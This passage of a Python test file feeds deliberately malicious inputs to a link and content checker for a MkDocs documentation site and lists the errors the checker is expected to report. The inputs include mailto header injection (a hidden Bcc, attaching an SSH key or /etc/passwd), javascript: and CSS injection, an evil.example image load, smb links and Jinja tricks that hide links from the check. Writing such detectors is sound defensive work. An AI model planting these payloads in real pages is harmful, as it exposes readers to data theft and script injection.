        [f"{ABOUT}:{ABOUT_END}: a link to 'mailto:a@0x7f.1': the recipient 'a@0x7f.1' " + AT_AN_IP,
         f"{ABOUT}:{ABOUT_END}: a link to 'mailto:b@127.1': the recipient 'b@127.1' " + AT_AN_IP,
         f"{ABOUT}:{ABOUT_END + 2}: a link to 'mailto:c@127.0.0.1.': the recipient 'c@127.0.0.1.' " + AT_AN_IP,
         f"{ABOUT}:{ABOUT_END + 4}: a link to 'mailto:d@\uff11\uff12\uff17.\uff10.\uff10.\uff11': the recipient "
         "'d@\uff11\uff12\uff17.\uff10.\uff10.\uff11': the host \uff11\uff12\uff17.\uff10.\uff10.\uff11 holds '\uff11' "
         "(U+FF11 FULLWIDTH DIGIT ONE), which browsers read as '1'"]),
    "docs: mail links to a look-alike name, a Bcc in the subject, a reply-to and an encoded header name": (
        add_lines(ABOUT, "[a](mailto:a@xn--exmple-4nf.org)", "[b](mailto:b@example.org?subject=x%0D%0ABcc:%20c@localhost)",
                  "[c](mailto:c@example.org?reply-to=d@localhost)", "[d](mailto:d@example.org?to%3De@localhost)"),
        [f"{ABOUT}:{ABOUT_END}: a link to 'mailto:a@xn--exmple-4nf.org': the recipient 'a@xn--exmple-4nf.org': the host "
         "xn--exmple-4nf.org (punycode for 'ex\u0430mple.org') mixes Latin letters with look-alikes from another script",
         f"{ABOUT}:{ABOUT_END + 2}: a link to 'mailto:b@example.org?subject=x%0D%0ABcc:%20c@localhost': it holds '\\r' "
         f"(U+000D, percent-encoded), which a mail's subject never holds; {MAIL_FIX}",
         f"{ABOUT}:{ABOUT_END + 4}: a link to 'mailto:c@example.org?reply-to=d@localhost': it sets the header 'reply-to', "
         + SETS_ONLY,
         f"{ABOUT}:{ABOUT_END + 6}: a link to 'mailto:d@example.org?to%3De@localhost': it holds the header name "
         f"'to=e@localhost', which mail programs read differently; {MAIL_FIX}"]),
    "mkdocs.yml: a social mail link to loopback in hex": (
        replace(CONFIG, "extra:\n", SOCIAL + "'mailto:a@0x7f.1'\n"),
        f"{CONFIG}:{EXTRA + 2}: `extra.social` links to 'mailto:a@0x7f.1': the recipient 'a@0x7f.1' " + AT_AN_IP),
}
CASES |= {  # twenty-eighth round, T4: a bad link named at an earlier good one whose address holds its own
    "docs: bad mail links after a good one whose address holds theirs": (
        add_lines(ABOUT, "[good](mailto:a@localhostmail.com)", "[x](mailto:a@loc&#97;lhost)", "[y](MAILTO:a@localhost)"),
        [f"{ABOUT}:{ABOUT_END + 2}: a link to 'mailto:a@localhost': the recipient 'a@localhost'" + AT_LOCALHOST,
         f"{ABOUT}:{ABOUT_END + 4}: a link to 'MAILTO:a@localhost': the recipient 'a@localhost'" + AT_LOCALHOST]),
}


CASES |= {  # twenty-ninth round, T1, T2 and T4: other headers that hold addresses, a subject that shows nothing, and an
    # address with a second @ that mail programs read differently
    "docs: mail links with a receipt header to localhost, a subject of joiners and a second @": (
        add_lines(ABOUT, "[a](mailto:a@example.org?Disposition-Notification-To=b@localhost)",
                  "[b](mailto:b@example.org?subject=%E2%80%8D%E2%80%8D%E2%80%8D)", "[c](mailto:c@localhost@example.org)",
                  "[d](mailto:%40localhost:d@example.org)"),
        [f"{ABOUT}:{ABOUT_END}: a link to 'mailto:a@example.org?Disposition-Notification-To=b@localhost': it sets the header "
         "'Disposition-Notification-To', " + SETS_ONLY,
         f"{ABOUT}:{ABOUT_END + 2}: a link to 'mailto:b@example.org?subject=%E2%80%8D%E2%80%8D%E2%80%8D': its subject is "
         f"made of characters that draw nothing, so it shows nothing at all; {MAIL_FIX}",
         f"{ABOUT}:{ABOUT_END + 4}: a link to 'mailto:c@localhost@example.org': 'c@localhost@example.org' holds more than "
         f"one @, which mail programs read differently; {MAIL_FIX}",
         f"{ABOUT}:{ABOUT_END + 6}: a link to 'mailto:%40localhost:d@example.org': '@localhost:d@example.org' holds more "
         f"than one @, which mail programs read differently; {MAIL_FIX}"]),
    "mkdocs.yml: a social mail link with an Errors-To at loopback": (
        replace(CONFIG, "extra:\n", SOCIAL + "'mailto:a@example.org?Errors-To=b@127.1'\n"),
        f"{CONFIG}:{EXTRA + 2}: `extra.social` links to 'mailto:a@example.org?Errors-To=b@127.1': it sets the header "
        "'Errors-To', " + SETS_ONLY),
}
CASES |= {  # twenty-ninth round, T3: a bad link named at an HTML comment that shows its address
    "docs: a bad mail link defined below a comment that shows it": (
        add_lines(ABOUT, "<!-- was [rc](mailto:c@localhost) -->", "[rc]", "[rc]:\n  mailto:c@localhost"),
        f"{ABOUT}:{ABOUT_END + 5}: a link to 'mailto:c@localhost': the recipient 'c@localhost'" + AT_LOCALHOST),
}
CASES |= {  # twenty-ninth round, T5: theme.icon's values that are no icon's name, named at the theme's template
    "mkdocs.yml: theme icons written as a list, a number and one text": (
        replace(CONFIG, "  font: false", "  icon:\n    admonition: [material/home]\n    logo: 12\n    tag: material/home\n"
                "  font: false"),
        [f"{CONFIG}:{line_of(CONFIG, 'font: false') + 1}: `theme.icon.admonition` is ['material/home'], not a mapping of "
         "names to icons; write each icon under it by its name, such as `note: material/pencil`",
         f"{CONFIG}:{line_of(CONFIG, 'font: false') + 2}: `theme.icon.logo` is 12, not an icon's name",
         f"{CONFIG}:{line_of(CONFIG, 'font: false') + 3}: `theme.icon.tag` is 'material/home', not a mapping of names to "
         "icons"]),
    "mkdocs.yml: theme.icon as one text": (
        replace(CONFIG, "  font: false", "  icon: material/home\n  font: false"),
        f"{CONFIG}:{line_of(CONFIG, 'font: false')}: `theme.icon` is 'material/home', not a mapping of icons"),
}


CASES |= {  # thirtieth round, T1: ``` is a fence in every page (MkDocs adds fenced_code), so a <!-- shown in one fence and a
    # --> in another are no comment, and the links between them are published
    "docs: links between a <!-- shown in one fence and a --> in another": (
        add_lines(ABOUT, "```html\n<!-- start\n```", "[a](mailto:x3@localhost) and [w](https://127.0.0.1/admin)",
                  "```\n-->\n```"),
        [f"{ABOUT}:{ABOUT_END + 4}: a link to 'mailto:x3@localhost': the recipient 'x3@localhost'" + AT_LOCALHOST,
         f"{ABOUT}:{ABOUT_END + 4}: a link to 'https://127.0.0.1/admin': the host 127.0.0.1 is not on the public web"]),
    # T2: lxml reads a template's text, where a Jinja comment or block holding <!-- opens an HTML comment Jinja never writes
    "overrides: an HTML comment opened and closed inside Jinja comments around a mail link": (
        replace(TEMPLATE, DRAWER, DRAWER + '{# <!-- #}\n<a href="mailto:t5@localhost">v</a>\n{# --> #}'),
        f"{TEMPLATE}:105: an HTML comment holds Jinja ({{{{ }}}}, {{% %}} or {{# #}}) or is opened or closed by it: Jinja "
        "decides what of it every page carries, which the template check cannot read; write the comment as a Jinja "
        "comment, {# like this #}, or remove it"),
    "overrides: an HTML comment that Jinja opens and closes only when false": (
        replace(TEMPLATE, DRAWER, DRAWER + '{% if false %}<!--{% endif %}<a href="https://127.0.0.7/">v</a>'
                '{% if false %}-->{% endif %}'),
        f"{TEMPLATE}:105: an HTML comment holds Jinja"),
}
CASES |= {  # thirtieth round, T3, T4 and T8: headers a mail program acts on, a quoted name whose backslash moves the
    # host, a fragment
    "docs: mail links that attach a file, quote with a backslash and carry a fragment": (
        add_lines(ABOUT, "[a](mailto:a@example.org?attach=/home/user/.ssh/id_rsa)",
                  "[b](mailto:a@example.org?html-body=%3Cimg%20src%3Dhttp://127.0.0.1/x%3E)",
                  "[c](mailto:%22b%5C%5C%22@localhost%22@example.org)", "[d](mailto:%22b@localhost%5C%22@example.org)",
                  "[e](mailto:a@example.org?subject=hi#%0D%0Abcc:b@localhost)"),
        [f"{ABOUT}:{ABOUT_END}: a link to 'mailto:a@example.org?attach=/home/user/.ssh/id_rsa': it sets the header 'attach', "
         + SETS_ONLY,
         f"{ABOUT}:{ABOUT_END + 2}: a link to 'mailto:a@example.org?html-body=%3Cimg%20src%3Dhttp://127.0.0.1/x%3E': it sets "
         "the header 'html-body', " + SETS_ONLY,
         f"{ABOUT}:{ABOUT_END + 4}: a link to 'mailto:%22b%5C%5C%22@localhost%22@example.org': '\"b\\\\\\\\\"@localhost\"@example.org' "
         f"holds a backslash or quotes other than one pair around the name, which mail programs read differently; {MAIL_FIX}",
         f"{ABOUT}:{ABOUT_END + 6}: a link to 'mailto:%22b@localhost%5C%22@example.org': '\"b@localhost\\\\\"@example.org' "
         f"holds a backslash or quotes other than one pair around the name, which mail programs read differently; {MAIL_FIX}",
         f"{ABOUT}:{ABOUT_END + 8}: a link to 'mailto:a@example.org?subject=hi#%0D%0Abcc:b@localhost': it holds a fragment "
         f"('#%0D%0Abcc:b@localhost'), which a mail link has no use for; {MAIL_FIX}"]),
    "mkdocs.yml: a social mail link that attaches a file": (
        replace(CONFIG, "extra:\n", SOCIAL + "'mailto:a@example.org?attach=/etc/passwd'\n"),
        f"{CONFIG}:{EXTRA + 2}: `extra.social` links to 'mailto:a@example.org?attach=/etc/passwd': it sets the header "
        "'attach', " + SETS_ONLY),
    "overrides: a mail link with a NUL in its fragment": (
        replace(TEMPLATE, DRAWER, DRAWER + '<a href="mailto:t3@example.org#%00">write</a>'),
        f"{TEMPLATE}:105: every page would carry a mail link, 'mailto:t3@example.org#%00', that no reader should be sent to "
        "(it holds a fragment ('#%00'), which a mail link has no use for)"),
    # M2 and M4: a recipient with a display name, named for it; a line break and a joiner in an encoded word
    "docs: a recipient with a name, and a subject's encoded words that hide a line break and draw nothing": (
        add_lines(ABOUT, "[a](mailto:a@example.org?cc=%22Doe%2C%20John%22%20%3Cj@example.org%3E)",
                  "[b](mailto:a@example.org?subject==?utf-8?q?a=0D=0Abcc:b@localhost?=)",
                  "[c](mailto:a@example.org?subject==?utf-8?b?4oCN?=)"),
        [f"{ABOUT}:{ABOUT_END}: a link to 'mailto:a@example.org?cc=%22Doe%2C%20John%22%20%3Cj@example.org%3E': it gives a "
         f"recipient as '\"Doe, John\" <j@example.org>', with a name or <>; give the bare address, name@domain; {MAIL_FIX}",
         f"{ABOUT}:{ABOUT_END + 2}: a link to 'mailto:a@example.org?subject==?utf-8?q?a=0D=0Abcc:b@localhost?=': it holds "
         f"'\\r' (U+000D, in an encoded word), which a mail's subject never holds; {MAIL_FIX}",
         f"{ABOUT}:{ABOUT_END + 4}: a link to 'mailto:a@example.org?subject==?utf-8?b?4oCN?=': its subject is made of "
         f"characters that draw nothing, so it shows nothing at all; {MAIL_FIX}"]),
}
CASES |= {  # thirtieth round, T5 to T7: what Material writes into every page's stylesheet and attributes from theme:
    # as given
    "mkdocs.yml: icon names that are no words, a logo as a mapping and colours Material has not": (
        steps(replace(CONFIG, "  font: false", '  icon:\n    admonition:\n      "x}body{display:none}a": material/home\n'
                      "    tag:\n      12: material/home\n  logo: {a: 1}\n  font: false"),
              replace(CONFIG, "      accent: indigo", "      accent: [indigo]"),
              replace(CONFIG, "      primary: blue grey", '      primary: "red}body{display:none"')),
        [f"{CONFIG}:{line_of(CONFIG, 'font: false') + 2}: `theme.icon.admonition` names an icon by 'x}}body{{display:none}}a', "
         "which is not a word: Material writes the name into every page's stylesheet; name it by a word of letters, digits "
         "and hyphens, such as `note`",
         f"{CONFIG}:{line_of(CONFIG, 'font: false') + 4}: `theme.icon.tag` names an icon by 12, which is not a word",
         f"{CONFIG}:{line_of(CONFIG, 'font: false') + 5}: `theme.logo` is {{'a': 1}}, not the path of a file",
         f"{CONFIG}:{line_of(CONFIG, 'primary: blue grey') + 6}: `theme.palette.primary` is 'red}}body{{display:none', not "
         "one of Material's colours; name one of: amber, black, blue, blue grey, brown, custom, cyan",
         f"{CONFIG}:{line_of(CONFIG, 'accent: indigo') + 6}: `theme.palette.accent` is ['indigo'], not one of Material's "
         "colours; name one of: amber, blue, custom, cyan, deep orange"]),
}

CASES |= {  # thirtieth round, M5: a page with the same invisible or unassigned character on two lines, each line named
    "docs: a right-to-left override typed on two lines": (
        add_lines(ABOUT, "One \u202eword.", "Two \u202eword."),
        [f"{ABOUT}:{ABOUT_END}: holds U+202E, an invisible character that breaks or reorders the text around it",
         f"{ABOUT}:{ABOUT_END + 2}: holds U+202E, an invisible character that breaks or reorders the text around it"]),
    "docs: an unassigned code point on two lines": (
        add_lines(ABOUT, "One \U000e0080.", "Two &#xE0080;."),
        [f"{ABOUT}:{ABOUT_END}: holds U+E0080", f"{ABOUT}:{ABOUT_END + 2}: holds U+E0080"]),
}

CASES |= {  # twenty-ninth round, M4 and M8: YAML's true and a number quoted as YAML writes them, not as Python's repr
    "mkdocs.yml: a social link named true, with a number for its icon": (
        replace(CONFIG, "extra:\n", "extra:\n  social:\n    - icon: 12\n      link: https://github.com/x\n      name: true\n"),
        [f"{CONFIG}:{EXTRA + 2}: `extra.social.icon` is 12, which is not the name of one of Material's icons",
         f"{CONFIG}:{EXTRA + 4}: `extra.social.name` is true, not text"]),
}

CASES |= {  # thirty-first round, T1: a + in a mail link is a plus sign, so a UTF-7 encoded word's line break is read
    "docs: a subject whose UTF-7 encoded word hides a line break behind a +": (
        add_line(ABOUT, "[u](mailto:a@example.org?subject==?utf-7?q?a+AA0ACg-bcc:b@localhost?=)"),
        f"{ABOUT}:{ABOUT_END}: a link to 'mailto:a@example.org?subject==?utf-7?q?a+AA0ACg-bcc:b@localhost?=': it holds '\\r' "
        f"(U+000D, in an encoded word), which a mail's subject never holds; {MAIL_FIX}"),
}
CASES |= {  # thirty-first round, T2 to T4: links hidden from the template check's reading of the text, inside markup that
    # Jinja never writes (a <script>, an attribute's quotes), found in the built pages
    "overrides: a mail link and a loopback link inside markup Jinja writes only when false": (
        replace(TEMPLATE, DRAWER, DRAWER + '{% if false %}<script>{% endif %}<a href="mailto:j1@localhost">j1</a>'
                '{% if false %}</script>{% endif %}\n{% if false %}<a title="{% endif %}<a href="https://127.0.0.55/j15">j15</a>'
                '{% if false %}">{% endif %}'),
        ["site/index.html: a link to 'mailto:j1@localhost': the recipient 'j1@localhost': the host localhost is not a name",
         "site/index.html: a link to 'https://127.0.0.55/j15': the host 127.0.0.55 is not on the public web"]),
}
RENDERED_TEMPLATES.add("overrides: a mail link and a loopback link inside markup Jinja writes only when false")
CASES |= {  # thirty-first round, T5: a private-use character in a page, which only the PDF refused, without a line
    "docs: a private-use character typed and as a reference": (
        add_lines(ABOUT, "One \U000f0000 here.", "Two &#xE000; there."),
        [f"{ABOUT}:{ABOUT_END}: holds U+F0000, a private-use character, which each reader's fonts draw differently or not at "
         "all; write the character Unicode has for it", f"{ABOUT}:{ABOUT_END + 2}: holds U+E000, a private-use character"]),
}

CASES |= {  # thirty-first round, T7 and M5: a fence followed by what Markdown writes onto <code> as attributes of its
    # own making, once named at another line in words about HTML no one typed
    "docs: fences followed by a colon in their braces and by hl_lines": (
        add_lines(ABOUT, "~~~ {: .python }\ncode\n~~~", '```html hl_lines="1"\n<p>x</p>\n```'),
        [f"{ABOUT}:{ABOUT_END}: a code fence followed by '{{: .python }}', which Markdown writes into the page as attributes of "
         "the code; give the code's language alone (```python) or nothing, or an attribute list of classes and ids "
         "({ .python })", f"{ABOUT}:{ABOUT_END + 4}: a code fence followed by 'html hl_lines=\"1\"'"]),
}
CASES |= {  # thirty-first round, M4: a record with characters that reorder text in two values, each named at once
    "a source record with an isolate in its title and another in its publisher": (
        steps(replace(AP, 'title: "[Report', 'title: "\u2067[Report'),
              replace(AP, "publisher: Associated Press", "publisher: Associated\u2066 Press")),
        [f"{AP}:{line_of(AP, 'title:')}: a value holds U+2067", f"{AP}:{line_of(AP, 'publisher:')}: a value holds U+2066"]),
}
ELSEWHERE = "which a browser hands to another program of the reader's"
CASES |= {  # thirty-second round, T1 and T4: links whose scheme hands them to another program (a file share, a shell,
    # an office suite), in a page, a template and the settings Material links every page to
    "docs: links to a file share, a file server and an office document by their schemes": (
        add_lines(ABOUT, "[a](smb://10.0.0.11/share) [b](ftp://127.0.0.13/)", "[c](ms-word:ofe|u|https://127.0.0.151/x.docx)"),
        [f"{ABOUT}:{ABOUT_END}: a link to 'smb://10.0.0.11/share' with the scheme smb:, {ELSEWHERE}; link to an https:// or "
         "a mailto: address, or to a page of the site", f"{ABOUT}:{ABOUT_END}: a link to 'ftp://127.0.0.13/' with the scheme ftp:",
         f"{ABOUT}:{ABOUT_END + 2}: a link to 'ms-word:ofe|u|https://127.0.0.151/x.docx' with the scheme ms-word:"]),
    "overrides: a link to a file share": (
        replace(TEMPLATE, DRAWER, DRAWER + '<a href="smb://10.0.0.11/share">files</a>'),
        f"{TEMPLATE}:105: every page would carry a link to 'smb://10.0.0.11/share' with the scheme smb:, {ELSEWHERE}"),
    "mkdocs.yml: a homepage on a file share and a language on a screen-sharing host": (
        replace(CONFIG, "extra:\n", "extra:\n  homepage: smb://10.0.0.90/h\n  alternate:\n    - name: English\n"
                "      link: vnc://127.0.0.93/\n      lang: en\n"),
        [f"{CONFIG}:{EXTRA + 1}: `extra.homepage` is 'smb://10.0.0.90/h', an address with the scheme smb:, {ELSEWHERE}",
         f"{CONFIG}:{EXTRA + 4}: `extra.alternate.link` is 'vnc://127.0.0.93/', an address with the scheme vnc:"]),
}
CASES |= {  # thirty-second round, T2: an encoded word's charset with a language (RFC 2231), read as mail programs read it
    "docs: a subject in UTF-7 with a language that hides a line break": (
        add_line(ABOUT, "[m](mailto:a@example.org?subject==?utf-7*en?q?a+AA0ACg-bcc:b@localhost?=)"),
        f"{ABOUT}:{ABOUT_END}: a link to 'mailto:a@example.org?subject==?utf-7*en?q?a+AA0ACg-bcc:b@localhost?=': it holds "
        f"'\\r' (U+000D, in an encoded word), which a mail's subject never holds; {MAIL_FIX}"),
}
CASES |= {  # thirty-second round, T3: a noncharacter as a reference, which Python's html.unescape drops and browsers and the
    # PDF keep
    "docs: noncharacters as references": (
        add_lines(ABOUT, "One &#xFDD0; here.", "Two &#65535; there."),
        [f"{ABOUT}:{ABOUT_END}: holds U+FDD0, a noncharacter, which is never text; write the character Unicode has for it",
         f"{ABOUT}:{ABOUT_END + 2}: holds U+FFFF, a noncharacter"]),
}
CASES |= {  # thirty-second round, T5: SVG animation that sets a link's address as the page is shown
    "overrides: SVG animations that set a link's address": (
        replace(TEMPLATE, DRAWER, DRAWER + '<svg><a><animate attributeName="href" values="https://127.0.0.100/"/><text>b4'
                '</text></a></svg>\n<svg><a><set attributeName="xlink:href" to="javascript:alert(1)"/><text>b5</text></a></svg>'),
        [f"{TEMPLATE}:105: every page would carry an SVG <animate> that changes a link's address as the page is shown",
         f"{TEMPLATE}:106: every page would carry an SVG <set> that changes a link's address as the page is shown"]),
}
CASES |= {  # thirty-second round, T6 and T7: characters no face of the PDF has, named where they are typed, never at a
    # space of another page
    "docs: a lone skin-tone modifier and one after a zero-width space": (
        add_lines(ABOUT, "One \U0001f3fb alone.", "Two a\u200b\U0001f3fb b."),
        [f"{ABOUT}:{ABOUT_END}: holds '\U0001f3fb', which no face the PDF uses has",
         f"{ABOUT}:{ABOUT_END + 2}: holds '\\u200b', which no face the PDF uses has"]),
}
RENDERED_TEMPLATES.add("docs: a lone skin-tone modifier and one after a zero-width space")
CASES["overrides: a refresh to a file share"] = (  # thirty-second round, M4: once named at each built page
    replace(TEMPLATE, DRAWER, DRAWER + '<meta http-equiv="refresh" content="0; url=smb://10.0.0.99/">'),
    f"{TEMPLATE}:105: every page would carry a <meta http-equiv=refresh> that sends readers to 'smb://10.0.0.99/'")
CASES["mkdocs.yml: a logo written as a data: address"] = (  # thirty-second round, M6: once told to give an https:// one
    replace(CONFIG, "  font: false", '  logo: "data:image/svg+xml,x"\n  font: false'),
    f"{CONFIG}:{line_of(CONFIG, 'font: false')}: `theme.logo` is a data: address, which Material writes into every page "
    "as a link or a load; name a file under docs/ by its path from there, such as assets/favicon.svg")
CASES["overrides: private-use characters typed and as a reference"] = (  # thirty-second round, M5
    replace(TEMPLATE, DRAWER, DRAWER + "<p>\ue019</p>\n<p>&#xE01A;</p>"),
    [f"{TEMPLATE}:105: every page would carry U+E019, a private-use character, which each reader's fonts draw differently "
     "or not at all; write the character Unicode has for it", f"{TEMPLATE}:106: every page would carry U+E01A"])
CASES |= {  # thirty-third round, T1: an address typed over two lines, named where its link opens
    "docs: raw links with a line break inside their scheme": (
        add_lines(ABOUT, '<a href="smb\n://10.0.0.23/">a</a>', '<a href="https\n://127.0.0.32/">b</a>'),
        [f"{ABOUT}:{ABOUT_END}: a link to 'smb\\n://10.0.0.23/' with the scheme smb:, {ELSEWHERE}",
         f"{ABOUT}:{ABOUT_END + 3}: a link to 'https\\n://127.0.0.32/': the host 127.0.0.32 is not on the public web"]),
    # T6: an encoded word in a charset no codec here reads (UTF-7-IMAP, which glibc reads as UTF-7)
    "docs: a subject in a charset the check cannot read": (
        add_line(ABOUT, "[m](mailto:a@example.org?subject==?UTF-7-IMAP?q?a%26AA0ACg-bcc:b@localhost?=)"),
        f"{ABOUT}:{ABOUT_END}: a link to 'mailto:a@example.org?subject==?UTF-7-IMAP?q?a%26AA0ACg-bcc:b@localhost?=': its "
        f"subject holds an encoded word in a charset the check cannot read, which mail programs may read as anything; {MAIL_FIX}"),
    # T7: control characters written as references, which the page and the PDF would carry
    "docs: control characters as references": (
        add_lines(ABOUT, "A &#x01; B", "C &#x85; D"),
        [f"{ABOUT}:{ABOUT_END}: holds U+0001, a control character, written as a reference (typed, it is refused as well); "
         "remove the reference", f"{ABOUT}:{ABOUT_END + 2}: holds a character reference to U+0085, a control character, "
         "which browsers show as '…' (Windows-1252's character for that code; Unicode's reference to it is &#x2026;); write "
         "the character itself"]),
}

CASES["overrides: a noncharacter and control characters as references"] = (  # thirty-third round, minor: once published
    replace(TEMPLATE, DRAWER, DRAWER + "<p>&#xFDD0;</p>\n<p>&#1;</p>\n<p>&#x85</p>"),
    [f"{TEMPLATE}:105: every page would carry U+FDD0, a noncharacter, which is never text; remove the reference",
     f"{TEMPLATE}:106: every page would carry U+0001, a control character; remove the reference",
     # Fortieth round, minor: &#x85 is '…' to browsers, named as the control no reader sees.
     f"{TEMPLATE}:107: every page would carry a character reference to U+0085, a control character, which browsers show "
     "as '…'"])


CASES |= {  # thirty-fourth round, T1: a charset Python knows as a codec that is no text encoding stopped the build with a
    # LookupError's traceback
    "docs: subjects in codecs that are no text encodings": (
        add_lines(ABOUT, "[m](mailto:a@example.org?subject==?rot13?q?a?=)", "[n](mailto:a@example.org?cc=%3D%3Fhex%3Fq%3Fa%3F%3D)",
                  "[o](mailto:a@example.org?subject==?undefined?b?YWJj?=)"),
        [f"{ABOUT}:{ABOUT_END}: a link to 'mailto:a@example.org?subject==?rot13?q?a?=': its subject holds an encoded word in a "
         f"charset the check cannot read, which mail programs may read as anything; {MAIL_FIX}",
         f"{ABOUT}:{ABOUT_END + 2}: a link to 'mailto:a@example.org?cc=%3D%3Fhex%3Fq%3Fa%3F%3D': its cc holds an encoded word",
         f"{ABOUT}:{ABOUT_END + 4}: a link to 'mailto:a@example.org?subject==?undefined?b?YWJj?=': its subject holds"]),
    "mkdocs.yml: a social mail link's subject in zlib": (
        replace(CONFIG, "extra:\n", SOCIAL + "'mailto:a@example.org?subject==?zlib?q?a?='\n"),
        f"{CONFIG}:{EXTRA + 2}: `extra.social` links to 'mailto:a@example.org?subject==?zlib?q?a?=': its subject holds an "
        f"encoded word in a charset the check cannot read, which mail programs may read as anything; {MAIL_FIX}"),
    "overrides: a mail link's subject in base64": (
        replace(TEMPLATE, DRAWER, DRAWER + '<a href="mailto:a@example.org?subject==?base64?q?a?=">m</a>'),
        f"{TEMPLATE}:105: every page would carry a mail link, 'mailto:a@example.org?subject==?base64?q?a?=', that no "),
}


CASES |= {  # thirty-fourth round, T2, T3 and T6: links typed over lines or with a tab, named where each opens
    "docs: a tab inside a link's scheme, raw and in Markdown": (
        add_lines(ABOUT, '<a href="sm\tb://10.0.0.44/">t</a>', "[t](sm\tb://10.0.0.45/)"),
        [f"{ABOUT}:{ABOUT_END}: a link to 'sm b://10.0.0.44/' with the scheme smb:, {ELSEWHERE}",
         f"{ABOUT}:{ABOUT_END + 2}: a link to 'sm  b://10.0.0.45/' with the scheme smb:"]),
    "docs: Markdown links in brackets typed over lines, in a quote and a list": (
        add_lines(ABOUT, "[a](<sm\nb://10.0.0.47/>)", "> [q](<sm\n> b://10.0.0.48/>)", "- [r](<sm\n  b://10.0.0.49/>)"),
        [f"{ABOUT}:{ABOUT_END}: a link to 'sm\\nb://10.0.0.47/' with the scheme smb:, {ELSEWHERE}",
         f"{ABOUT}:{ABOUT_END + 3}: a link to 'sm\\nb://10.0.0.48/' with the scheme smb:",
         f"{ABOUT}:{ABOUT_END + 6}: a link to 'sm\\n  b://10.0.0.49/' with the scheme smb:"]),
    "docs: three links whose schemes a line break cuts, typed or as references": (
        add_lines(ABOUT, '<a href="sm&#10;b://10.0.0.68/">a</a>', '<a href="sm&NewLine;b://10.0.0.70/">b</a>',
                  "<a href='sm\nb://10.0.0.72/'>c</a>"),
        [f"{ABOUT}:{ABOUT_END}: a link to 'sm\\nb://10.0.0.68/' with the scheme smb:, {ELSEWHERE}",
         f"{ABOUT}:{ABOUT_END + 2}: a link to 'sm\\nb://10.0.0.70/' with the scheme smb:",
         f"{ABOUT}:{ABOUT_END + 4}: a link to 'sm\\nb://10.0.0.72/' with the scheme smb:"]),
}


CASES |= {
    "docs: a control character as a reference with leading zeros": (  # thirty-fourth round, minor: called U+0000
        add_lines(ABOUT, "A &#x0000000004; B", "C &#0000000000000000001; D"),
        [f"{ABOUT}:{ABOUT_END}: holds U+0004, a control character, written as a reference (typed, it is refused as well); "
         "remove the reference", f"{ABOUT}:{ABOUT_END + 2}: holds U+0001, a control character"]),
    # Thirty-fourth round: a reference of 5,000 digits stopped Python-Markdown's HTML reader with a ValueError's traceback
    "docs: references past Unicode's last code point": (
        add_lines(ABOUT, f'A <span title="&#{"9" * 5000};">x</span> B', "C &#x110000; D"),
        [f"{ABOUT}:{ABOUT_END}: holds a character reference past U+10FFFF, Unicode's last code point, which names no "
         "character: browsers show U+FFFD there; write the character itself, or a reference up to &#x10FFFF;",
         f"{ABOUT}:{ABOUT_END + 2}: holds a character reference past U+10FFFF"]),
    "overrides: a reference past Unicode's last code point": (
        replace(TEMPLATE, DRAWER, DRAWER + f'<p title="&#{"9" * 5000};">x</p>'),
        f"{TEMPLATE}:105: every page would carry a character reference past U+10FFFF, Unicode's last code point, which "
        "names no character: browsers show U+FFFD there; write the character itself, or a reference up to &#x10FFFF;"),
}


CASES["docs: a subject in UTF-16 without a byte-order mark, a Bcc header read big-endian"] = (  # thirty-fourth round, minor
    add_line(ABOUT, "[m](mailto:a@example.org?subject==?UTF-16?B?AGEADQAKAGIAYwBjADoAeABAAGUAeABhAG0AcABsAGUALgBvAHIAZw==?=)"),
    f"{ABOUT}:{ABOUT_END}: a link to 'mailto:a@example.org?subject==?UTF-16?B?AGEADQAKAGIAYwBjADoA")


CASES["overrides: a link and an image whose start tags run over lines"] = (  # thirty-fourth round, minor: named at the end
    replace(TEMPLATE, DRAWER, DRAWER + '<a\n  title="t"\n  href="smb://10.0.0.4/">x</a>\n<img\nsrc="https://evil.example/x.png" alt="">'),
    [f"{TEMPLATE}:105: every page would carry a link to 'smb://10.0.0.4/' with the scheme smb:",
     f"{TEMPLATE}:108: every page would carry a <img> that loads 'https://evil.example/x.png' from another host"])


CASES["CITATION.cff: an author's mail address the format refuses"] = (  # thirty-second round, M7: printed as a dict
    replace("CITATION.cff", "    given-names: Maria\n", "    given-names: Maria\n    email: b@localhost\n"),
    [f"CITATION.cff:16: authors/0/email: 'b@localhost' does not match '^[\\\\S]+@[\\\\S]+\\\\.[\\\\S]{{2,}}$'; {CFF_FIX}",
     "CITATION.cff:16: `email` of an author is a field no input of the edition holds"])


CASES["mkdocs.yml: nav entries written with character references"] = (  # thirty-third round, minor: "write it as 'smb&'"
    replace(CONFIG, "      - About: about.md", '      - About: about.md\n      - N1: "smb&#58;//10.0.0.3/"\n'
            '      - N2: "gloss&amp;ary.md"'),
    [f"{CONFIG}:{ABOUT_NAV + 1}: `nav` lists 'smb&#58;//10.0.0.3/', written with a character reference, which MkDocs does "
     "not decode; write the page's path from docs/ (such as about.md), or the https:// address, as it is",
     f"{CONFIG}:{ABOUT_NAV + 2}: `nav` lists 'gloss&amp;ary.md', written with a character reference"])


CASES["docs: a character of each kind no page may hold, every one named in one run"] = (  # thirty-first round, M3
    add_lines(ABOUT, "A \u0378 unassigned", "B \ue000 private", "C \u202e reordering", "D &#x110000; past", "E &#x01; control"),
    [f"{ABOUT}:{ABOUT_END}: holds U+0378, which Unicode", f"{ABOUT}:{ABOUT_END + 2}: holds U+E000, a private-use character",
     f"{ABOUT}:{ABOUT_END + 4}: holds U+202E, an invisible character", f"{ABOUT}:{ABOUT_END + 6}: holds a character reference "
     "past U+10FFFF", f"{ABOUT}:{ABOUT_END + 8}: holds U+0001, a control character"])


CASES |= {  # thirty-fifth round, T1 and T2: a reference long with leading zeros stopped html.unescape with a traceback
    "docs: a reference of thousands of digits, most of them leading zeros": (
        add_lines(ABOUT, f"Zeros C&#{'0' * 4400}65;D", f'<span title="&#x{"0" * 40}41;">x</span>'),
        [f"{ABOUT}:{ABOUT_END}: holds a character reference written with 4,402 digits, more than any character needs (Python "
         "reads no number past 4,300); write the character itself, or a reference up to &#x10FFFF; with its digits alone",
         f"{ABOUT}:{ABOUT_END + 2}: holds a character reference written with 42 digits"]),
    "overrides: a reference of thousands of digits": (
        replace(TEMPLATE, DRAWER, DRAWER + f'<meta name="x" content="&#{"0" * 5000}65;">'),
        f"{TEMPLATE}:105: every page would carry a character reference written with 5,002 digits"),
    # T4: a Jinja string's escapes making control characters
    "overrides: a Jinja string making control characters": (
        replace(TEMPLATE, DRAWER, DRAWER + '<span>{{ "a\\u0001bc\\u0000d" }}</span>'),
